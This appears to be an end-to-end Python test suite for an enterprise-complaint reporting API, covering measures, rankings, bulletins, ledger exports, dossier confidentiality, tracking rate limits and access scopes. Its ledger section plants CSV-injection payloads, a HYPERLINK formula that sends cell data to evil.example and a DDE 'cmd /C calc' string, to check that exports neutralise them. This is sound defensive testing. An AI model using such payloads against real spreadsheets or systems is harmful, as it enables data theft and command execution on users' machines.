#!/usr/bin/env python3
"""tests/e2e/reporting_api.py — the reporting API end to end (driven by tests/e2e/reporting.sh).

Python's standard library, plus openpyxl (Debian python3-openpyxl) to read the xlsx ledger back
the way a spreadsheet program would. Every check prints one line; exits 1 if any failed.
"""
import csv
import io
import json
import os
import random
import subprocess
import sys
import urllib.error
import urllib.request
import uuid

URL = os.environ["REP_URL"]
DSN = os.environ["JIESU_PG_DSN"]
MONTH = os.environ["REP_MONTH"]
SIM = json.load(open(os.environ["REP_SIM"]))
T = {k: os.environ[k] for k in os.environ if k.startswith("T_")}
fails = checks = 0


def check(name, cond, detail=""):
    global fails, checks
    checks += 1
    if cond:
        print(f"  ok   {name}")
    else:
        fails += 1
        print(f"  FAIL {name} {str(detail)[:600]}")


def call(method, path, token=None, body=None, raw=None):
    h = {"Content-Type": "application/json"}
    if token:
        h["Authorization"] = "Bearer " + token
    data = raw if raw is not None else (json.dumps(body, ensure_ascii=False).encode() if body is not None else None)
    req = urllib.request.Request(URL + path, data=data, method=method, headers=h)
    try:
        with urllib.request.urlopen(req, timeout=60) as r:
            return r.status, r.read(), dict(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, e.read(), dict(e.headers)


def jcall(method, path, token=None, body=None, raw=None):
    s, b, h = call(method, path, token, body, raw)
    try:
        return s, json.loads(b), h
    except ValueError:
        return s, {"_raw": b[:200]}, h


def sql(q):
    return subprocess.run(["psql", "-tA", DSN, "-c", q], capture_output=True, text=True, check=True).stdout.strip()


L, C = T["T_LEADER"], T["T_CENTRE"]
units = SIM["units"]
exp = SIM["expected"]

print("measures:")
s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100&group=unit", L)
check("by unit for Nanning → 200", s == 200, d)
rows = {str(r["unit_id"]): r for r in d.get("rows", [])}
for u in units[:5]:
    e, r = exp.get(str(u["id"]), {}), rows.get(str(u["id"]), {})
    c = r.get("counts", {})
    want = {"received": e.get("received", 0), "responded_in_time": e.get("resp_on_time", 0),
            "responded_late": e.get("resp_late", 0), "done_on_time": e.get("done_on_time", 0),
            "done_late": e.get("done_late", 0), "closed": e.get("closed", 0), "solved": e.get("solved", 0),
            "redo": e.get("redo", 0),
            "yellow_cards": e.get("yellow", 0), "red_cards": e.get("red", 0), "notices": e.get("notices", 0)}
    got = {k: c.get(k) for k in want}
    check(f"  … {u['name']} ({u['profile']}) as the generator counted", got == want, (want, got))
    if e.get("wds"):
        wds = sorted(e["wds"])
        avg = round(sum(wds) / len(wds), 2)
        p90 = wds[max(0, -(-len(wds) * 9 // 10) - 1)]
        m = r["measures"]
        check(f"  … {u['name']}: mean and p90 handling time by hand", abs(m["avg_handling_wd"] - avg) < 0.011 and m["p90_handling_wd"] == p90,
              (avg, p90, m))
total = SIM["cases"]
s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100", L)
check("no grouping → one row with every case of the month", s == 200 and len(d["rows"]) == 1 and d["rows"][0]["counts"]["received"] == total, d)
tot = d["rows"][0]
for g in ("kind", "tier", "region", "unit,kind", "region,tier,kind", "month", "day"):
    s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100&group={g}", L)
    n = sum(r["counts"]["received"] for r in d.get("rows", []))
    check(f"group={g}: the groups add up to the month", s == 200 and n == total, (s, n, total))
s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100&group=region&level=township", L)
check("group=region&level=township: township codes", s == 200 and all(len(r["region_code"]) in (6, 9, 12) for r in d["rows"]), d)
# a period that is not whole months reads days from rep_day and months from rep_month: the same answer
s1, d1, _ = jcall("GET", f"/v1/reports/measures?from={MONTH}-03&to={MONTH}-27&region=450100", L)
s2, d2, _ = jcall("GET", f"/v1/reports/measures?from={MONTH}-03&to={MONTH}-27&region=450100&group=day", L)
check("a partial month equals the sum of its days", s1 == 200 and s2 == 200 and
      d1["rows"][0]["counts"]["received"] == sum(r["counts"]["received"] for r in d2["rows"]), (d1, len(d2.get("rows", []))))
y, m = map(int, MONTH.split("-"))
prev = f"{y}-{m - 1:02d}-15" if m > 1 else f"{y - 1}-12-15"
s3, d3, _ = jcall("GET", f"/v1/reports/measures?from={prev}&to={MONTH}-31&region=450100", L)
check("a period across a month boundary counts the month once", s3 == 200 and d3["rows"][0]["counts"]["received"] >= total, d3)
rates = tot["measures"]
check("rates in [0,1], score in [0,100]", all(rates[k] is None or 0 <= rates[k] <= 1 for k in
      ("response_rate", "on_time_rate", "resolution_rate", "satisfaction_rate")) and 0 <= rates["score"] <= 100, rates)
c = tot["counts"]
check("on-time rate counts open cases past due as late", abs(rates["on_time_rate"] - c["done_on_time"] /
      (c["done_on_time"] + c["done_late"] + c["open_overdue"])) < 1e-3 and c["open_overdue"] > 0, c)
s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100&group=kind", L)
check("by kind: cards and notices are not split by kind (null)", s == 200 and all(r["counts"]["yellow_cards"] is None for r in d["rows"]), d)
s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}", T["T_LEADER_ALL"])
check("a leader without a region reports on the deployment (450000)", s == 200 and d["region"] == "450000" and d["rows"][0]["counts"]["received"] >= total, d)
s, d, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&unit_id={units[0]['id']}", L)
check("one unit's figures (unit_id)", s == 200 and d["rows"][0]["counts"]["received"] == exp[str(units[0]["id"])]["received"], d)

print("rankings and the red-black list:")
s, d, _ = jcall("GET", f"/v1/reports/rankings?month={MONTH}&region=450100", T["T_SUPERVISOR"])
check("rankings → 200 with a ranking", s == 200 and len(d["ranking"]) >= 4, d)
scores = [r["measures"]["score"] for r in d.get("ranking", [])]
check("  … best first", scores == sorted(scores, reverse=True), scores)
late = {str(u["id"]) for u in units if u["profile"] == "late"}
prompt = {str(u["id"]) for u in units if u["profile"] == "prompt"}
check("  … the late units are on the black list", late and late <= {str(r["unit_id"]) for r in d["black_list"]}, d["black_list"])
check("  … the red list holds prompt units only", d["red_list"] and {str(r["unit_id"]) for r in d["red_list"]} <= prompt | {str(u["id"]) for u in units if u["profile"] == "unsatisfying"}, d["red_list"])
s, d, _ = jcall("GET", f"/v1/reports/rankings?month={MONTH}&region=450100&by=region&level=county", L)
check("rankings by region → 200", s == 200 and d["by"] == "region", d)

print("bulletin:")
s, b, h = call("GET", f"/v1/reports/bulletin?month={MONTH}&region=450100", L)
html = b.decode()
check("bulletin → 200 text/html", s == 200 and h.get("Content-Type", "").startswith("text/html"), (s, h))
check("  … titled, with the summary, red and black lists, notices, overdue and recurring sections",
      all(x in html for x in ("南宁市企业诉求办理情况通报", "一、总体情况", "红榜", "黑榜", "挂牌督办", "超期未办结", "共性问题")), html[:300])
check("  … printable (@page) and escaped", "@page" in html and "<script" not in html)
check("  … the month's total is stated", f"登记企业诉求 <b>{total}</b> 件" in html, html[html.find("总体情况"):][:200])
check("  … no enterprise contact in it", not any(t["credit_code"] in html for t in SIM["tracking"]) and "138077" not in html)
s, b, _ = call("GET", f"/v1/reports/bulletin?month={MONTH}&unit_id={units[3]['id']}", C)
check("a unit's bulletin → 200 by kind", s == 200 and "分类型情况" in b.decode(), b[:200])

print("ledger:")
s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=json", C)
check("ledger JSON → 200, the 12 columns of seed 003 annex 4", s == 200 and [c["title"] for c in d["columns"]] ==
      ["序号", "诉求编号", "诉求企业", "联系人及联系方式", "主要诉求", "办理单位", "联系人及联系方式", "办理情况", "督办情况",
       "移送纪检监察情况", "回访情况", "是否办结归档"], d.get("columns"))
n_ledger = len(d.get("rows", []))
s2, d2, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450102", C)
check("  … one row per case of the region and month", n_ledger == d2["rows"][0]["counts"]["received"] and n_ledger > 0, (n_ledger, d2))
check("  … numbered 1..n", [r["no"] for r in d["rows"]] == list(range(1, n_ledger + 1)))
s, b, h = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=csv", C)
check("ledger CSV → 200 with a BOM and a file name", s == 200 and b.startswith(b"\xef\xbb\xbf") and "attachment" in h.get("Content-Disposition", ""), h)
rows_csv = list(csv.reader(io.StringIO(b.decode("utf-8-sig"))))
check("  … parses: header + one line per case", len(rows_csv) == n_ledger + 1 and rows_csv[0][1] == "诉求编号", len(rows_csv))
s, b, h = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=xlsx", C)
check("ledger xlsx → 200 as a spreadsheet", s == 200 and h.get("Content-Type", "").startswith("application/vnd.openxmlformats") and b[:2] == b"PK", h)
try:
    import openpyxl
    wb = openpyxl.load_workbook(io.BytesIO(b), read_only=True)
    ws = wb.worksheets[0]
    xrows = list(ws.iter_rows(values_only=True))
    check("  … openpyxl reads it: sheet 台账, header + n rows", ws.title == "台账" and len(xrows) == n_ledger + 1, (ws.title, len(xrows)))
    check("  … the same cells as the JSON ledger", [str(x) for x in xrows[1][:3]] == [str(d["rows"][0]["no"]), d["rows"][0]["case_no"], d["rows"][0]["enterprise"]], (xrows[1][:3], d["rows"][0]))
    check("  … 序号 is a number, 诉求编号 text", isinstance(xrows[1][0], (int, float)) and isinstance(xrows[1][1], str))
except ImportError:
    check("openpyxl is installed (python3-openpyxl)", False)
check("  … every export is in the audit log", int(sql("SELECT count(*) FROM audit_log WHERE action = 'case.export' AND object = 'region:450102'")) >= 3)
late_unit = next(u for u in units if u["profile"] == "late")
s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&unit_id={late_unit['id']}&format=json", L)
check("  … a late unit's ledger shows its supervision", s == 200 and any(r["supervision"] != "无" for r in d["rows"]), d.get("rows", [])[:2])

# Formula injection (OWASP "CSV Injection"): names and summaries come from enterprises, and
# intake takes any single line of text, so a name may start with '='. The CSV ledger must make
# such a cell text (a leading '); the xlsx holds string cells and the value as it is.
s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=json", C)
r0, r1 = d["rows"][0], d["rows"][1]
keep = sql(f"SELECT json_build_object('n', enterprise_name, 's', summary) FROM cases WHERE case_no = '{r0['case_no']}'")
evil_name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
evil_summary = "+1+cmd|' /C calc'!A0 道路积水"
sql(f"UPDATE cases SET enterprise_name = $q${evil_name}$q$, summary = $q${evil_summary}$q$, version = version + 1 "
    f"WHERE case_no = '{r0['case_no']}'")  # the row as if registered so (every update moves the version)
try:
    s, b, _ = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=csv", C)
    byno = {r[1]: r for r in csv.reader(io.StringIO(b.decode("utf-8-sig")))}
    check("CSV ledger: a name starting with '=' and a summary with '+' are written as text (a leading ')",
          s == 200 and byno[r0["case_no"]][2] == "'" + evil_name and byno[r0["case_no"]][4] == "'" + evil_summary,
          byno.get(r0["case_no"], [])[:5])
    check("  … a plain name and summary are unchanged", byno[r1["case_no"]][2] == r1["enterprise"]
          and byno[r1["case_no"]][4] == r1["summary"], (byno.get(r1["case_no"], [])[:5], r1))
    s, b, _ = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=xlsx", C)
    try:
        import openpyxl
        ws = openpyxl.load_workbook(io.BytesIO(b)).worksheets[0]
        cells = next(r for r in ws.iter_rows(min_row=2) if r[1].value == r0["case_no"])
        check("  … the xlsx holds the name as it is, in a string cell (never a formula)",
              cells[2].value == evil_name and cells[2].data_type == "s" and cells[4].value == evil_summary
              and cells[4].data_type == "s", [(c.value, c.data_type) for c in cells[:5]])
    except ImportError:
        check("openpyxl is installed (python3-openpyxl)", False)
finally:
    sql(f"UPDATE cases SET enterprise_name = k->>'n', summary = k->>'s', version = version + 1 FROM (SELECT $k${keep}$k$::json AS k) x "
        f"WHERE case_no = '{r0['case_no']}'")

print("dossier:")
tr = SIM["tracking"]
closed = next(t for t in tr if t["state"] == "closed")
s, d, _ = jcall("GET", f"/v1/cases/{closed['case_id']}/dossier", L)
docs = {x["document"] for x in d.get("documents", [])}
check("dossier → 200 with appeal, transfer letter, reply, revisit", s == 200 and {"appeal", "transfer_letter", "reply", "revisit"} <= docs, docs)
check("  … ordered, and the read audited", [x["seq"] for x in d["documents"]] == list(range(1, len(d["documents"]) + 1)) and
      int(sql(f"SELECT count(*) FROM audit_log WHERE action = 'case.read' AND object = 'case:{closed['case_id']}'")) >= 1)
with_notice = sql("SELECT u.case_id FROM rep_unit_events u JOIN cases c ON c.id = u.case_id LIMIT 1")  # not an earlier run's, read back from the shared topic
s, d, _ = jcall("GET", f"/v1/cases/{with_notice}/dossier", T["T_SUPERVISOR"])
check("  … supervision on the case is in its dossier", s == 200 and len(d["supervision"]) >= 1, d.get("supervision"))
s, d, _ = jcall("GET", f"/v1/cases/{closed['case_id']}/dossier", T["T_CENTRE_LZ"])
check("  … a centre of another region gets 404", s == 404, d)
own = next(t for t in tr if t["unit"] == units[0]["id"])
s, d, _ = jcall("GET", f"/v1/cases/{own['case_id']}/dossier", T["T_UNIT"])
check("  … the unit that handled it may read it", s == 200, d)
s, d, _ = jcall("GET", f"/v1/cases/{own['case_id']}/dossier", T["T_UNIT_OTHER"])
check("  … another unit may not (404)", s == 404, d)

# A confidential report (举报) an enterprise submitted with its own token, dispatched to a unit:
# written as intake and the dispatcher write it (the case row, its history with the enterprise
# principal as the actor of what it did). Principals of role enterprise are named after the
# enterprise, so the unit's dossier must not carry the actor's name either (DOMAIN.md §8).
ALPHA = "0123456789ABCDEFGHJKLMNPQRTUWXY"
WEIGHTS = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]


def credit_code(region):  # GB 32100-2015, each run its own enterprise
    org = "".join(random.choice("0123456789") for _ in range(8))
    c = 11 - sum(int(d) * w for d, w in zip(org, [3, 7, 9, 10, 5, 8, 4, 2])) % 11
    body = "91" + region[:6] + org + ("X" if c == 10 else "0" if c == 11 else str(c))
    t = sum(ALPHA.index(ch) * w for ch, w in zip(body, WEIGHTS))
    return body + ALPHA[(31 - t % 31) % 31]


u0 = units[0]
rep_code = credit_code(u0["region"])
rep_name = f"南宁保密举报测试企业{rep_code[-6:]}有限公司"
ctl = os.path.join(os.environ["JIESU_BIN"], "jiesuctl")
rep_pid = subprocess.run([ctl, "principal", "add", "--role", "enterprise", "--name", rep_name, "--credit-code", rep_code],
                         capture_output=True, text=True, check=True).stdout.strip()
rep_tok = subprocess.run([ctl, "token", "issue", "--principal", rep_pid], capture_output=True, text=True, check=True).stdout.strip()
rep_id, rep_no = str(uuid.uuid4()), f"{u0['region']}-2026-{random.randint(9000000, 9999999)}"
rep_at = "2026-09-15T10:00:00+08:00"  # before the month the measures check
centre_pid = sql("SELECT id FROM principals WHERE role = 'centre' ORDER BY id DESC LIMIT 1")
hist = [("case.received", None, "received", rep_pid,
         {"case_no": rep_no, "region_code": u0["region"], "kind": "report", "channel": "web",
          "enterprise": {"name": rep_name, "credit_code": rep_code}, "summary": "举报某单位工作人员索要好处费",
          "confidential": True, "received_at": rep_at}),
        ("case.accepted", "received", "accepted", centre_pid, {"complexity": "general", "matter_type": "作风问题"}),
        ("case.dispatched", "accepted", "dispatched", centre_pid,
         {"lead_unit_id": u0["id"], "co_handler_unit_ids": [], "tier": "county", "catalogue_version": 1,
          "basis": "catalogue", "attempt": 1, "sign_by": "2026-09-16T23:59:59+08:00"}),
        ("case.material_added", "dispatched", "dispatched", rep_pid,
         {"material_id": str(uuid.uuid4()), "source": "enterprise", "attachment_ids": [], "description": "补充举报材料"})]
stmts = [f"""INSERT INTO cases (id, case_no, tracking_code_hash, region_code, tier, state, version, kind, complexity, channel,
    enterprise_name, credit_code, address, contact_name, contact_phone, summary, body, confidential, lead_unit_id,
    received_at, created_at, submitted_by) VALUES ('{rep_id}', '{rep_no}', sha256('x'), '{u0['region']}', 3, 'dispatched',
    {len(hist)}, 'report', 'general', 'web', '{rep_name}', '{rep_code}', '南宁市某路1号', '举报联系人', '13807700000',
    '举报某单位工作人员索要好处费', '举报内容。', true, {u0['id']}, '{rep_at}', '{rep_at}', {rep_pid})""",
         f"INSERT INTO case_units (case_id, unit_id, role) VALUES ('{rep_id}', {u0['id']}, 'lead')"]
for v, (t, frm, to, actor, pay) in enumerate(hist, 1):
    stmts.append(f"""INSERT INTO case_events (event_id, case_id, type, from_state, to_state, case_version, actor_principal_id,
        occurred_at, payload) VALUES ('{uuid.uuid4()}', '{rep_id}', '{t}', {"NULL" if frm is None else repr(frm)}, '{to}', {v},
        {actor}, '{rep_at}'::timestamptz + interval '{v} minutes', $j${json.dumps(pay, ensure_ascii=False)}$j$::jsonb)""")
sql("BEGIN; " + "; ".join(stmts) + "; COMMIT;")
check("a confidential report by an enterprise's own token is registered (its tracking by token works)",
      jcall("GET", f"/v1/track/{rep_no}", rep_tok)[0] == 200)
s, b, _ = call("GET", f"/v1/cases/{rep_id}/dossier", T["T_UNIT"])
d = json.loads(b) if s == 200 else {}
txt = b.decode()
acts = [x["actor"] for x in d.get("documents", []) if x["actor"]["role"] == "enterprise"]
check("  … the unit reported on reads its dossier: neither the enterprise's name nor its credit code anywhere",
      s == 200 and rep_name not in txt and rep_code not in txt and json.dumps(rep_name)[1:-1] not in txt, txt[:600])
check("  … the enterprise's own documents say only 'enterprise', the name withheld",
      len(acts) == 2 and all(a["name"].startswith("保密件") for a in acts) and "withheld" in d["registration"]["enterprise"], acts)
for who in ("T_CENTRE", "T_SUPERVISOR"):
    s, d, _ = jcall("GET", f"/v1/cases/{rep_id}/dossier", T[who])
    names = [x["actor"]["name"] for x in d.get("documents", []) if x["actor"]["role"] == "enterprise"]
    check(f"  … {who[2:].lower()} of the region still sees the reporter (name, credit code, actor)",
          s == 200 and d["registration"]["enterprise"].get("credit_code") == rep_code and names == [rep_name] * 2, d)

print("tracking:")
a = tr[0]
s, d, _ = jcall("POST", "/v1/track", body={"case_no": a["case_no"], "tracking_code": a["tracking_code"]})
check("right code → 200 with state, unit, timeline, due", s == 200 and d["case_no"] == a["case_no"] and d["timeline"] and "due_at" in d, d)
txt = json.dumps(d, ensure_ascii=False)
others = [t["case_no"] for t in tr if t["case_no"] != a["case_no"]]
check("  … nothing about other cases, no staff or contact data", not any(o in txt for o in others) and "actor" not in txt and
      "138077" not in txt and "credit_code" not in txt and "演示数据" not in txt, txt[:300])
check("  … the timeline is in time order with labels", [x["at"] for x in d["timeline"]] == sorted(x["at"] for x in d["timeline"]) and all(x["label"] for x in d["timeline"]))
s, d, _ = jcall("POST", "/v1/track", body={"case_no": a["case_no"], "tracking_code": "ABCDEFGHJK"})
check("wrong code → 404, naming tracking_code", s == 404 and d["error"]["field"] == "tracking_code", d)
s, d, _ = jcall("POST", "/v1/track", body={"case_no": "450102-2026-0000000", "tracking_code": a["tracking_code"]})
check("unknown number → the same 404", s == 404 and d["error"]["code"] == "not_found", d)
s, d, _ = jcall("POST", "/v1/track", body={"case_no": a["case_no"], "tracking_code": a["tracking_code"].lower()})
check("the code is case-insensitive", s == 200, d)
s, d, h = jcall("POST", "/v1/track", body={"case_no": a["case_no"], "tracking_code": a["tracking_code"]})
check("the 4th look-up of one case number in the hour is still answered", s == 200, (s, d))
s, d, h = jcall("POST", "/v1/track", body={"case_no": a["case_no"], "tracking_code": a["tracking_code"]})
check("the 5th look-up of one case number in the hour → 429 naming case_no, Retry-After",
      s == 429 and d["error"]["field"] == "case_no" and int(h.get("Retry-After", "0")) > 0, (s, d))
got, fields = [], []
for t in tr[1:10]:  # 6 look-ups so far from this address; the limit is 12 a minute
    s, d, h = jcall("POST", "/v1/track", body={"case_no": t["case_no"], "tracking_code": t["tracking_code"]})
    got.append(s)
    fields.append(d.get("error", {}).get("field"))
check("more than 12 look-ups a minute from one address → 429 naming the client", got[:6] == [200] * 6 and
      got[6:] == [429] * 3 and fields[6] == "client", (got, fields))
s, d, _ = jcall("GET", f"/v1/track/{a['case_no']}", T["T_ENT"])
check("enterprise token: its own case → 200", s == 200 and d["case_no"] == a["case_no"], d)
foreign = next(t for t in tr if t["credit_code"] != a["credit_code"])
s, d, _ = jcall("GET", f"/v1/track/{foreign['case_no']}", T["T_ENT"])
check("enterprise token: another enterprise's case → 404", s == 404, d)
s, d, _ = jcall("GET", f"/v1/track/{a['case_no']}", L)
check("tracking by token is for enterprises only (403)", s == 403, d)

print("scope refusals:")
for name, path, tok, code, field in [
    ("centre of 兴宁区 asking for Nanning", f"/v1/reports/measures?month={MONTH}&region=450100", C, 403, "region"),
    ("centre of 柳州 asking for a Nanning unit", f"/v1/reports/measures?month={MONTH}&unit_id={units[0]['id']}", T["T_CENTRE_LZ"], 403, "unit_id"),
    ("centre of 柳州 asking for 兴宁区's ledger", f"/v1/reports/ledger?month={MONTH}&region=450102", T["T_CENTRE_LZ"], 403, "region"),
    ("supervisor of Nanning asking for the province", f"/v1/reports/bulletin?month={MONTH}&region=450000", T["T_SUPERVISOR"], 403, "region"),
    ("an enterprise asking for measures", f"/v1/reports/measures?month={MONTH}", T["T_ENT"], 403, None),
    ("a unit asking for the ledger", f"/v1/reports/ledger?month={MONTH}", T["T_UNIT"], 403, None),
    ("an operator asking for rankings", f"/v1/reports/rankings?month={MONTH}", T["T_OPERATOR"], 403, None),
    ("an agent asking for the bulletin", f"/v1/reports/bulletin?month={MONTH}", T["T_AGENT"], 403, None),
    ("no token", f"/v1/reports/measures?month={MONTH}", None, 401, None),
    ("a bad token", f"/v1/reports/measures?month={MONTH}", "0" * 64, 401, None),
]:
    s, d, _ = jcall("GET", path, tok)
    check(f"{name} → {code}", s == code and "error" in d and (field is None or d["error"].get("field") == field), (s, d))

print("bad inputs (4xx JSON naming the field):")
bad = [
    ("/v1/reports/measures", "from"),
    ("/v1/reports/measures?from=2026-10-01", "to"),
    ("/v1/reports/measures?from=2026-13-01&to=2026-10-31", "from"),
    ("/v1/reports/measures?from=2026-10-31&to=2026-10-01", "to"),
    ("/v1/reports/measures?from=2020-01-01&to=2026-10-01", "to"),
    ("/v1/reports/measures?month=2026-10&from=2026-10-01&to=2026-10-02", "month"),
    ("/v1/reports/measures?month=2026-1", "month"),
    ("/v1/reports/measures?month=2026-10&group=color", "group"),
    ("/v1/reports/measures?month=2026-10&group=unit,unit", "group"),
    ("/v1/reports/measures?month=2026-10&group=day,month", "group"),
    ("/v1/reports/measures?from=2026-01-01&to=2026-10-31&group=day", "group"),
    ("/v1/reports/measures?month=2026-10&kind=rumour", "kind"),
    ("/v1/reports/measures?month=2026-10&tier=5", "tier"),
    ("/v1/reports/measures?month=2026-10&region=4501", "region"),
    ("/v1/reports/measures?month=2026-10&region=45010x", "region"),
    ("/v1/reports/measures?month=2026-10&unit_id=abc", "unit_id"),
    ("/v1/reports/measures?month=2026-10&unit_id=999999999", "unit_id"),
    ("/v1/reports/measures?month=2026-10&level=village", "level"),
    ("/v1/reports/rankings?month=2026-10&by=kind", "by"),
    ("/v1/reports/rankings?month=2026-10&limit=0", "limit"),
    ("/v1/reports/bulletin", "month"),
    ("/v1/reports/bulletin?month=2026-10&recurring=2", "recurring"),
    ("/v1/reports/ledger?month=2026-10&format=pdf", "format"),
    ("/v1/reports/recurring?month=2026-10&limit=1000", "limit"),
    ("/v1/cases/not-a-uuid/dossier", "id"),
    ("/v1/cases/00000000-0000-4000-8000-000000000000/dossier", "id"),
]
for path, field in bad:
    s, d, _ = jcall("GET", path, L)
    check(f"GET {path[:70]} → 4xx naming {field}", 400 <= s < 500 and d.get("error", {}).get("field") == field, (s, d))
for body, field in [({"case_no": "x", "tracking_code": "ABCDEFGHJK"}, "case_no"),
                    ({"case_no": "450102-2026-0000001"}, "tracking_code"),
                    ({"case_no": "450102-2026-0000001", "tracking_code": "AB<>"}, "tracking_code"),
                    ({"case_no": "450102-2026-0000001", "tracking_code": "ABCDEFGHJK", "extra": 1}, "extra"),
                    ({"case_no": 12345678, "tracking_code": "ABCDEFGHJK"}, "case_no")]:
    s, d, _ = jcall("POST", "/v1/track", body=body)
    check(f"POST /v1/track {json.dumps(body)[:60]} → 400 naming {field}", s == 400 and d["error"]["field"] == field, (s, d))
s, d, _ = jcall("POST", "/v1/track", raw=b"{not json")
check("POST /v1/track with broken JSON → 400 JSON", s == 400 and "error" in d, d)
s, d, _ = jcall("GET", "/v1/track/lower-case-no", T["T_ENT"])
check("GET /v1/track/{bad number} → 400 naming case_no", s == 400 and d["error"]["field"] == "case_no", d)

print("recurring problems:")
s, d, _ = jcall("GET", f"/v1/reports/recurring?month={MONTH}&region=450100", L)
check("recurring → 200 with groups across enterprises", s == 200 and d["groups"] and all(g["enterprises"] >= 2 for g in d["groups"]), d)
check("  … largest first, with examples", [g["size"] for g in d["groups"]] == sorted((g["size"] for g in d["groups"]), reverse=True)
      and all(1 <= len(g["examples"]) <= 3 for g in d["groups"]))
check("  … the flooded roads (积水) are one class", any("积水" in g["matter_type"] and g["size"] >= 5 for g in d["groups"]), [g["matter_type"] for g in d["groups"]])

print("rebuild:")
s, before, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100&group=unit,kind", L)
out = subprocess.run([os.environ["REP_BIN"], "rebuild"], capture_output=True, text=True)
check("jiesu-reporting rebuild (from case_events) → 0", out.returncode == 0 and "rebuilt from case_events" in out.stdout, out.stderr)
s, after, _ = jcall("GET", f"/v1/reports/measures?month={MONTH}&region=450100&group=unit,kind", L)
check("  … the measures are exactly the same", before == after)

print(f"{checks - fails} passed, {fails} failed")
sys.exit(1 if fails else 0)
